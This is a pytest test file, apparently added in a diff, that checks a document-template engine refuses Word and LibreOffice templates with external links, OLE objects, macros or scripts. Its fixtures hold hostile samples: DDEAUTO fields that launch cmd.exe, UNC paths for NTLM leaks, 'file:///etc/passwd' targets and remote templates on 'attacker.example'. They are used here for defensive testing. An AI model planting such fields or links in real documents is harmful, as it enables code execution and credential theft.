@@ -1,0 +1,274 @@
+"""Templates that reach outside themselves are refused: linked pictures,
+attached templates, external data, OLE objects, macros and scripts; hyperlinks
+are text the reader clicks and are kept."""
+
+import io
+import zipfile
+
+import pytest
+
+from extrabat_core.docengine import TemplateError, list_markers, render
+
+from . import docfixtures as fx
+
+REL = fx.REL
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
+
+
+def _refused(data, code):
+    with pytest.raises(TemplateError) as info:
+        list_markers(data)
+    assert info.value.code == code, info.value.message_en
+    assert info.value.message_fr != info.value.message_en
+    return info.value
+
+
+def _docx(*paragraphs, rels=(), extra=None, parts=()):
+    package = fx.WordPackage("".join(paragraphs) or fx.para(fx.run("[data.x]")))
+    package.doc_rels.extend(rels)
+    package.extra_entries.update(extra or {})
+    for part in parts:
+        package.add_part(*part)
+    return package.build()
+
+
+def _odt(body="", styles=None, extra=None):
+    data = fx.odt_package(fx.odt_content(body or fx.opara("[data.x]")), styles)
+    if not extra:
+        return data
+    source = zipfile.ZipFile(io.BytesIO(data))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            target.writestr(info, source.read(info))
+        for name, content in extra.items():
+            target.writestr(name, content)
+    return out.getvalue()
+
+
+# === WORD ===
+
+
+def test_plain_docx_with_hyperlinks_is_accepted():
+    data = _docx(
+        fx.para(fx.run("[data.x]")),
+        rels=[("rId30", REL + "hyperlink", "https://example.com/?a=1&b=2", True)],
+    )
+    assert list_markers(data).names == ["x"]
+    out = zipfile.ZipFile(io.BytesIO(render(data, {"x": "1"})))
+    assert b"https://example.com/" in out.read("word/_rels/document.xml.rels")
+
+
+@pytest.mark.parametrize(
+    ("rel_type", "target"),
+    [
+        ("image", "http://attacker.example/pixel.png"),  # linked picture
+        ("image", "file:///etc/passwd"),
+        ("image", "\\\\attacker\\share\\x.png"),  # UNC path: NTLM leak
+        ("oleObject", "file:///C:/data/prices.xlsx"),  # linked OLE (LINK)
+        ("frame", "https://attacker.example/frame.html"),
+        ("subDocument", "file:///srv/chapter.docx"),
+        ("externalLinkPath", "https://attacker.example/data.xlsx"),
+    ],
+)
+def test_external_relationships_of_the_document_are_refused(rel_type, target):
+    error = _refused(
+        _docx(rels=[("rId30", REL + rel_type, target, True)]), "external_reference"
+    )
+    assert rel_type in error.message_en and target[:20] in error.message_en
+
+
+def test_scheme_without_target_mode_is_external():
+    error = _refused(
+        _docx(rels=[("rId30", REL + "image", "https://x.example/a.png", False)]),
+        "external_reference",
+    )
+    assert "https://x.example/a.png" in error.message_fr
+
+
+def test_attached_template_in_settings_rels_is_refused():
+    rels = fx.rels_xml(
+        [("rId1", REL + "attachedTemplate", "https://attacker.example/t.dotm", True)]
+    )
+    error = _refused(
+        _docx(extra={"word/_rels/settings.xml.rels": rels}), "external_reference"
+    )
+    assert "attachedTemplate" in error.message_en
+
+
+def test_external_relationship_of_a_header_is_refused(word_template):
+    source = zipfile.ZipFile(io.BytesIO(word_template))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            data = source.read(info)
+            if info.filename == "word/_rels/header1.xml.rels":
+                data = data.replace(
+                    b"</Relationships>",
+                    b'<Relationship Id="rId9" Type="' + REL.encode() + b'image" '
+                    b'Target="http://x.example/logo.png" TargetMode="External"/>'
+                    b"</Relationships>",
+                )
+            target.writestr(info, data)
+    _refused(out.getvalue(), "external_reference")
+
+
+def test_embedded_ole_object_is_refused():
+    data = _docx(
+        rels=[("rId30", REL + "oleObject", "embeddings/oleObject1.bin", False)],
+        extra={"word/embeddings/oleObject1.bin": OLE},
+    )
+    error = _refused(data, "embedded_object")
+    assert "oleObject1.bin" in error.message_en
+
+
+def test_ole_compound_file_anywhere_is_refused():
+    error = _refused(_docx(extra={"word/media/image9.emf": OLE}), "embedded_object")
+    assert "word/media/image9.emf" in error.message_en
+
+
+def test_activex_control_relationship_is_refused():
+    _refused(
+        _docx(rels=[("rId30", REL + "control", "activeX/activeX1.xml", False)]),
+        "macros",
+    )
+
+
+@pytest.mark.parametrize(
+    "instr",
+    [
+        'INCLUDEPICTURE "http://attacker.example/p.png" \\d',
+        'INCLUDETEXT "C:\\\\secret.docx"',
+        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
+        'LINK Excel.Sheet.12 "C:\\\\data.xlsx" "" \\a',
+    ],
+)
+def test_fields_including_external_content_are_refused(instr):
+    error = _refused(
+        _docx(fx.para(fx.run("[data.x]"), fx.complex_field(instr, "x"))),
+        "external_reference",
+    )
+    assert instr.split()[0] in error.message_en
+
+
+def test_field_code_split_over_runs_is_refused():
+    field = (
+        fx.run_raw('<w:fldChar w:fldCharType="begin"/>')
+        + fx.run_raw('<w:instrText xml:space="preserve"> INCLUDE</w:instrText>')
+        + fx.run_raw('<w:instrText xml:space="preserve">PICTURE "x.png"</w:instrText>')
+        + fx.run_raw('<w:fldChar w:fldCharType="end"/>')
+    )
+    _refused(_docx(fx.para(field)), "external_reference")
+
+
+def test_simple_external_field_in_a_footer_is_refused():
+    footer = fx.header_part(
+        "ftr",
+        [fx.para('<w:fldSimple w:instr=" DDE cmd /c calc "><w:r><w:t>x</w:t></w:r>'
+                 "</w:fldSimple>")],
+    )  # fmt: skip
+    data = _docx(parts=[("word/footer1.xml", fx.FOOTER_TYPE, footer, REL + "footer",
+                         "rId40")])  # fmt: skip
+    _refused(data, "external_reference")
+
+
+def test_harmless_fields_are_accepted():
+    data = _docx(
+        fx.para(
+            fx.run("[data.x]"),
+            fx.complex_field("PAGE \\* MERGEFORMAT", "1"),
+            '<w:fldSimple w:instr=" DATE \\@ &quot;dd/MM/yyyy&quot; ">'
+            "<w:r><w:t>01/01/2025</w:t></w:r></w:fldSimple>",
+            fx.complex_field('HYPERLINK "https://example.com"', "lien"),
+        )
+    )
+    assert list_markers(data).names == ["x"]
+
+
+# === LIBREOFFICE ===
+
+
+def test_odt_with_hyperlinks_is_accepted():
+    data = _odt(
+        fx.opara(
+            "[data.x] ",
+            '<text:a xlink:type="simple" xlink:href="https://example.com/">site</text:a>',
+        )
+    )
+    assert list_markers(data).names == ["x"]
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["Basic/Standard/Module1.xml", "Basic/script-lc.xml", "Scripts/python/run.py",
+     "Dialogs/Standard/Dialog1.xml"],
+)  # fmt: skip
+def test_odt_macros_and_scripts_are_refused(name):
+    content = b"<x/>" if name.endswith(".xml") else b"import os"
+    error = _refused(_odt(extra={name: content}), "macros")
+    assert ".odt" in error.message_en
+
+
+def test_odt_event_listener_is_refused():
+    body = (
+        '<office:event-listeners xmlns:script="urn:oasis:names:tc:opendocument:'
+        'xmlns:script:1.0"><script:event-listener script:language="ooo:script" '
+        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.'
+        'Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>'
+        + fx.opara("[data.x]")
+    )
+    _refused(_odt(body), "macros")
+
+
+def test_odt_ole_object_is_refused():
+    frame = (
+        '<draw:frame draw:name="Objet1" svg:width="2cm" svg:height="2cm">'
+        '<draw:object-ole xlink:href="./Object 1" xlink:type="simple"/></draw:frame>'
+    )
+    error = _refused(
+        _odt(fx.opara("[data.x]", frame), extra={"Object 1": OLE}), "embedded_object"
+    )
+    assert "Object 1" in error.message_en
+
+
+@pytest.mark.parametrize(
+    "href",
+    ["http://attacker.example/p.png", "file:///etc/passwd", "../../secret.png",
+     "/etc/passwd", "\\\\attacker\\share\\x.png"],
+)  # fmt: skip
+def test_odt_linked_picture_is_refused(href):
+    frame = (
+        '<draw:frame draw:name="Image1" svg:width="2cm" svg:height="2cm">'
+        f'<draw:image xlink:href="{href}" xlink:type="simple" xlink:show="embed"/>'
+        "</draw:frame>"
+    )
+    error = _refused(_odt(fx.opara("[data.x]", frame)), "external_reference")
+    assert href[:10] in error.message_en
+
+
+def test_odt_linked_section_is_refused():
+    section = (
+        '<text:section text:name="S1"><text:section-source '
+        'xlink:href="file:///srv/clauses.odt" text:filter-name="writer8"/>'
+        "</text:section>"
+    )
+    _refused(_odt(fx.opara("[data.x]") + section), "external_reference")
+
+
+def test_odt_linked_picture_in_a_header_is_refused():
+    master = (
+        '<style:master-page style:name="Standard" style:page-layout-name="pm1">'
+        "<style:header>"
+        + fx.opara(
+            '<draw:frame draw:name="Logo"><draw:image '
+            'xlink:href="https://attacker.example/logo.png"/></draw:frame>',
+            style="Header",
+        )
+        + "</style:header></style:master-page>"
+    )
+    error = _refused(_odt(styles=fx.odt_styles(master)), "external_reference")
+    assert "styles.xml" in error.message_en
+
+
+def test_odt_embedded_picture_is_accepted(odt_template):
+    assert "nom_societe" in list_markers(odt_template).names
